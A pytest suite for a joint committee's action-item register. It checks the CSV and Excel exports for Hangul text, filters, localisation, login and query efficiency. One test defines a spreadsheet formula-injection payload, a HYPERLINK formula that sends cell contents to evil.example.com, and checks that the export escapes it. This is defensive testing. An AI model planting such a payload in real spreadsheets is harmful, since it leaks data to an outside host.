"""The action-item register as CSV and Excel, as the secretariats send it round before a meeting."""

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import event, select

from jcm.accounts.models import Organization, User
from jcm.extensions import db
from jcm.mou.models import FocusArea

HEADERS = ["Reference", "Title (English)", "Title (Korean)", "Focus area", "Focus area title", "Origin meeting",
           "U.S. owners", "Korean owners", "Due date", "Status", "Overdue", "Last update (UTC)"]
BOM = b"\xef\xbb\xbf"
FORMULA = '=HYPERLINK("https://evil.example.com/?leak="&A1,"Click for details")'


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def read_xlsx(response):
    assert response.status_code == 200, response.get_data(as_text=True)
    return load_workbook(io.BytesIO(response.get_data())).active


def _organization_id(app, acronym):
    with app.app_context():
        return db.session.scalar(select(Organization.id).where(Organization.acronym == acronym))


@pytest.fixture
def register(app, committee, make_meeting, make_action_item):
    """The 12th meeting's action items, and one from before it that is overdue."""
    today = date.today()
    meeting_id = make_meeting(ordinal=12, start_date=(today + timedelta(days=30)).isoformat())
    due = (today + timedelta(days=120)).isoformat()
    return {
        "meeting_id": meeting_id,
        "datasets": make_action_item("Exchange AI-ready dataset inventories", meeting_id=meeting_id, due_date=due),
        "quantum": make_action_item(
            "Draft the joint quantum testbed call", focus_area="B.4", meeting_id=meeting_id, due_date=due,
            owners={"US": [{"user_id": committee.us_observer.id}],
                    "KR": [{"organization_id": _organization_id(app, "IITP")}]}),
        "overdue": make_action_item("Nominate experts for the AI safety workshop",
                                    due_date=(today - timedelta(days=10)).isoformat()),
        "done": make_action_item("Share the list of joint projects", status="done",
                                 due_date=(today - timedelta(days=40)).isoformat()),
    }


# --- CSV ------------------------------------------------------------------------------------------------

def test_the_csv_opens_in_excel_with_hangul_and_reads_back(client, auth, committee, register):
    auth.login(committee.kr_secretariat)
    response = client.get("/action-items.csv")
    assert response.get_data().startswith(BOM)
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=jcm-action-items-{date.today().isoformat()}.csv")
    raw = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert raw[0] == HEADERS
    rows = read_csv(response)
    assert [row["Reference"] for row in rows] == ["JCM-X002", "JCM-X001", "JCM12-A01", "JCM12-A02"]  # by due date
    datasets = next(row for row in rows if row["Reference"] == "JCM12-A01")
    assert datasets["Korean owners"] == "박지훈" and datasets["U.S. owners"] == "David Okafor"
    assert datasets["Focus area"] == "A.1" and datasets["Focus area title"] == "AI for Science and Use-Inspired Research"
    assert datasets["Origin meeting"] == "The 12th Joint Committee Meeting"
    assert datasets["Status"] == "Open" and datasets["Overdue"] == "no"
    assert datasets["Due date"] == (date.today() + timedelta(days=120)).isoformat()
    datetime.strptime(datasets["Last update (UTC)"], "%Y-%m-%d %H:%M")
    quantum = next(row for row in rows if row["Reference"] == "JCM12-A02")
    assert quantum["Korean owners"] == "Institute of Information and Communication Technology Planning and Evaluation"
    overdue = next(row for row in rows if row["Reference"] == "JCM-X001")
    assert overdue["Overdue"] == "yes" and overdue["Origin meeting"] == ""


@pytest.mark.parametrize("query, refs", [
    ("status=done", ["JCM-X002"]),
    ("status=open&overdue=true", ["JCM-X001"]),
    ("overdue=false&sort=-ref", ["JCM12-A02", "JCM12-A01", "JCM-X002"]),
    ("side=US&due_before=2000-01-01", []),
])
def test_the_export_follows_the_registers_filters(client, auth, committee, register, query, refs):
    auth.login(committee.us_secretariat)
    assert [row["Reference"] for row in read_csv(client.get(f"/action-items.csv?{query}"))] == refs


def test_the_export_filters_by_owner_side_focus_area_and_meeting(app, client, auth, committee, register):
    auth.login(committee.us_secretariat)
    with app.app_context():
        quantum = db.session.scalar(select(FocusArea.id).where(FocusArea.code == "B.4"))
    assert [r["Reference"] for r in read_csv(client.get(f"/action-items.csv?focus_area={quantum}"))] == ["JCM12-A02"]
    iitp = _organization_id(app, "IITP")
    assert [r["Reference"] for r in read_csv(client.get(f"/action-items.csv?owner=organization:{iitp}"))] == [
        "JCM12-A02"]
    mine = read_csv(client.get(f"/action-items.csv?owner={committee.kr_delegate.id}&side=KR"))
    assert [r["Reference"] for r in mine] == ["JCM-X002", "JCM-X001", "JCM12-A01"]
    meeting = read_csv(client.get(f"/action-items.csv?meeting={register['meeting_id']}"))
    assert {r["Reference"] for r in meeting} == {"JCM12-A01", "JCM12-A02"}


@pytest.mark.parametrize("query, word", [
    ("status=finished", "finished"), ("side=JP", "side"), ("overdue=perhaps", "overdue"),
    ("due_before=next-week", "next-week"), ("sort=priority", "Sort"), ("meeting=twelve", "meeting"),
])
def test_a_nonsense_filter_is_refused_with_a_clear_message(client, auth, api, committee, register, query, word):
    program = api.get(f"/action-items.xlsx?{query}", committee.kr_observer)
    assert program.status_code == 422
    assert program.json["error"]["code"] == "invalid" and word in program.json["error"]["message"]
    auth.login(committee.us_delegate)
    page = client.get(f"/action-items.csv?{query}")
    assert page.status_code == 422 and page.mimetype == "text/html" and word in page.get_data(as_text=True)


def test_formula_looking_text_is_shown_never_run(client, auth, committee, make_action_item):
    for title in (FORMULA, "+1 555 0100 call the NSF desk", "-2 days slip agreed", "@SUM(A1:A9)"):
        make_action_item(title)
    auth.login(committee.us_secretariat)
    titles = [row["Title (English)"] for row in read_csv(client.get("/action-items.csv?sort=ref"))]
    assert titles == ["'" + FORMULA, "'+1 555 0100 call the NSF desk", "'-2 days slip agreed", "'@SUM(A1:A9)"]
    sheet = read_xlsx(client.get("/action-items.xlsx?sort=ref"))
    cell = sheet["B2"]
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix
    assert all(sheet.cell(row=row, column=2).data_type == "s" for row in range(2, 6))


# --- Excel ----------------------------------------------------------------------------------------------

def test_the_workbook_has_bold_frozen_headers_real_dates_and_hangul(client, auth, committee, register):
    auth.login(committee.kr_delegate)
    response = client.get("/action-items.xlsx")
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=jcm-action-items-{date.today().isoformat()}.xlsx")
    sheet = read_xlsx(response)
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:L5"
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    datasets = rows["JCM12-A01"]
    due = datasets[HEADERS.index("Due date")]
    assert isinstance(due.value, (date, datetime)) and due.is_date and due.number_format == "yyyy-mm-dd"
    assert due.value.date() == date.today() + timedelta(days=120)
    assert datasets[HEADERS.index("Korean owners")].value == "박지훈"
    assert isinstance(datasets[HEADERS.index("Last update (UTC)")].value, datetime)
    assert rows["JCM-X001"][HEADERS.index("Overdue")].value == "yes"
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKL"}
    assert widths["I"] == 12 and 10 <= widths["A"] < widths["B"] <= 60


def test_the_readers_language_changes_labels_not_the_data(app, client, auth, committee, register):
    auth.login(committee.us_secretariat)
    english = read_csv(client.get("/action-items.csv"))
    with app.app_context():
        db.session.get(User, committee.us_secretariat.id).locale = "ko"
        db.session.commit()
    response = client.get("/action-items.csv", headers={"Accept-Language": "en"})
    assert response.headers["Content-Language"] == "ko"
    korean_raw = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert len(korean_raw[0]) == len(HEADERS)
    assert korean_raw[0][0] == "참조 번호" and "기한" in korean_raw[0]  # the headers speak Korean
    korean = [dict(zip(HEADERS, row)) for row in korean_raw[1:]]
    for key in ("Reference", "Title (English)", "Title (Korean)", "Focus area", "Due date", "Last update (UTC)"):
        assert [row[key] for row in korean] == [row[key] for row in english]
    datasets = next(row for row in korean if row["Reference"] == "JCM12-A01")
    assert datasets["Focus area title"] == "과학을 위한 AI 및 활용 지향 연구"
    assert datasets["Origin meeting"] == "제12차 공동위원회"
    assert next(row for row in korean if row["Reference"] == "JCM12-A02")["Korean owners"] == "정보통신기획평가원"


# --- who may download -----------------------------------------------------------------------------------

def test_a_program_with_a_token_gets_the_csv(api, committee, register):
    rows = read_csv(api.get("/action-items.csv?side=KR", committee.kr_observer))
    assert "박지훈" in {row["Korean owners"] for row in rows}
    sheet = read_xlsx(api.get("/action-items.xlsx", committee.us_observer))
    assert sheet.max_row == 5


@pytest.mark.parametrize("path", ["/action-items.csv", "/action-items.xlsx"])
def test_nobody_gets_the_register(client, committee, register, path):
    program = client.get(path)
    assert program.status_code == 401 and program.headers["WWW-Authenticate"].startswith("Bearer")
    assert client.get(path, headers={"Authorization": "Bearer jcm_not-a-real-token"}).status_code == 401
    browser = client.get(path, headers={"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"})
    assert browser.status_code == 302 and "/login" in browser.headers["Location"]


def test_the_export_loads_owners_with_a_constant_number_of_queries(app, client, auth, committee, make_action_item):
    auth.login(committee.us_secretariat)

    def queries_for_export() -> int:
        statements: list[str] = []

        def count(conn, cursor, statement, *args):
            statements.append(statement)

        with app.app_context():
            engine = db.engine
        event.listen(engine, "before_cursor_execute", count)
        try:
            assert client.get("/action-items.xlsx").status_code == 200
            assert client.get("/action-items.csv").status_code == 200
        finally:
            event.remove(engine, "before_cursor_execute", count)
        return len(statements)

    make_action_item("First")
    few = queries_for_export()
    for number in range(6):
        make_action_item(f"Item {number}", focus_area="B.4", owners={
            "US": [{"user_id": committee.us_observer.id}, {"organization_id": _organization_id(app, "NSF")}],
            "KR": [{"user_id": committee.kr_delegate.id}, {"organization_id": _organization_id(app, "IITP")}]})
    assert queries_for_export() == few
